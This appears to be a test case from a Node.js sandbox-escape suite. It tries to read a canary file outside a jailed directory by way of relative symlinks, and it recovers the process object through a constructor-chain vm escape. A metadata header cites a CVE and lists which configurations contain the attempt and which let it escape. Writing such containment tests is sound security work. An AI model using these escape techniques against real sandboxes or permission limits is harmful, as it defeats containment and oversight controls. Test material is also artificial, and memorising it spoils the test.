/*---
id: pm-symlink-relative
title: Relative symlinks out of the allowed directory
category: permission-model
goal: Read canary.txt outside the jail through symlinks created inside the jail, the documented weak spot of path-based permission checks.
technique: fs.symlinkSync('../canary.txt', 'jail/l1') and a chained relative link (jail/a/l2 → ../../canary.txt), then readFileSync on the in-jail link names; Node resolves neither relative target against the link's directory before checking.
references: CVE-2025-55130, https://nodejs.org/api/permissions.html#file-system-permissions, https://github.com/nodejs/node/pull/49156
expect: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped; process = escaped; process+vm = escaped
expect-hardened: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped
---*/
const P =
  typeof process !== 'undefined'
    ? process
    : (() => {
        try {
          return this.constructor.constructor('return process')();
        } catch {
          return undefined;
        }
      })();
const results = {};
if (P) {
  const fs = P.getBuiltinModule('node:fs');
  const jail = P.cwd().endsWith('/jail') ? P.cwd() : `${P.cwd()}/jail`;
  const steps = {
    has: () => (P.permission ? String(P.permission.has('fs.read', `${jail}/../canary.txt`)) : 'no permission model'),
    link1: () => fs.symlinkSync('../canary.txt', `${jail}/l1`),
    read1: () => fs.readFileSync(`${jail}/l1`, 'utf8').trim(),
    mkdir: () => fs.mkdirSync(`${jail}/a`),
    link2: () => fs.symlinkSync('../../canary.txt', `${jail}/a/l2`),
    read2: () => fs.readFileSync(`${jail}/a/l2`, 'utf8').trim(),
  };
  for (const [name, go] of Object.entries(steps)) {
    try {
      results[name] = go() ?? 'ok';
    } catch (e) {
      results[name] = e.code || e.message;
    }
  }
}
console.log('relative symlinks:', P ? JSON.stringify(results) : 'no process object');
results;
